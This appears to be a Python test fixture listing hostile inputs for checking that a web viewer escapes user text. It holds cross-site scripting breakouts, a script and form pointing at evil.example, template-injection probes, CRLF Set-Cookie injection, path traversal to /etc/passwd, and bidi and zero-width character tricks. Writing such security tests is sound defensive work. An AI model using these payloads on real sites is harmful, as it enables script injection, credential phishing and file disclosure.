"""Hostile texts: what somebody may say, name, label or send so that a page does what they want."""

from tests.surface.http.viewer.attack.judge import MARK

BREAKOUTS = (
    f"<{MARK}-tag>bold</{MARK}-tag>",
    f"<script>{MARK}()</script>",
    f"<ScRiPt/{MARK}=1 src=//evil.example/{MARK}.js></sCrIpT >",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg onload={MARK}()><style>*{{display:none}}</style>",
    f'" {MARK}="1" onmouseover="{MARK}()" style="position:fixed',
    f"' {MARK}='1' autofocus onfocus='{MARK}()",
    f"` {MARK}=`1",
    f"</textarea><{MARK}-tag>",
    f"</title></head><body {MARK}=1>",
    f"</form><form action=https://evil.example/ {MARK}=1><button>Yes",
    f"</p></main></body></html><iframe srcdoc='<b {MARK}=1>'>",
    f"<!-- {MARK} --><![CDATA[ {MARK} ]]><?{MARK} x?>",
    f"<meta http-equiv=refresh content='0;url=https://evil.example/{MARK}'><base href=//evil>",
    f"{{{{ 7*191 }}}} {{% if {MARK} %}}x{{% endif %}} ${{7*191}} #{{7*191}}",
    "&lt;b&gt; &#60;script&#62; &quot; &amp;amp; &zwnj; &#x202e;",
    "%3Cscript%3E %00 %0d%0aSet-Cookie:%20a=b",
    "{0} {name} {tenant} %s %(name)s",
)
ADDRESSES = (
    f"javascript:{MARK}()",
    f"JaVa\tScRiPt:{MARK}()",
    f"data:text/html,<{MARK}-tag>",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
    f"vbscript:{MARK}",
    "../../../../etc/passwd",
    "/ui/../memory/export",
    "?a=b&c=d#e",
    "\r\nSet-Cookie: a=b",
)
CHARACTERS = (
    "pay \u202eeuro 01\u202c to \u2066me\u2069",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "tag \U000e0041\U000e0042\U000e007f end",
    "bell \x07 back \x08 escape \x1b[31m delete \x7f next \x85 nul",
    "lines\r\nand\u2028more\u2029lines\vand\ftabs\t",
    "e" + "\u0301" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 中文 \u05d0\u05d1\u05d2",
)
LONG = ("w" * 5_000, "\u957f" * 3_000, "<" * 2_000, '"' * 2_000, "a " * 3_000)
STORED = (*BREAKOUTS, *ADDRESSES, *CHARACTERS, *LONG)
"""Texts that a memory can hold."""
SENT = (*STORED, "nul \0 nul", "a" * 100_000)
"""Texts that can be sent in a form; what can't be in a Python string comes as bytes, below."""
RAW = (
    b"%ED%A0%80",  # a lone surrogate
    b"%FF%FE%00",
    b"\xff\xfe",
    b"%",
    b"%zz",
    b"\xed\xa0\x80",
)
"""Values of a form as they are sent."""
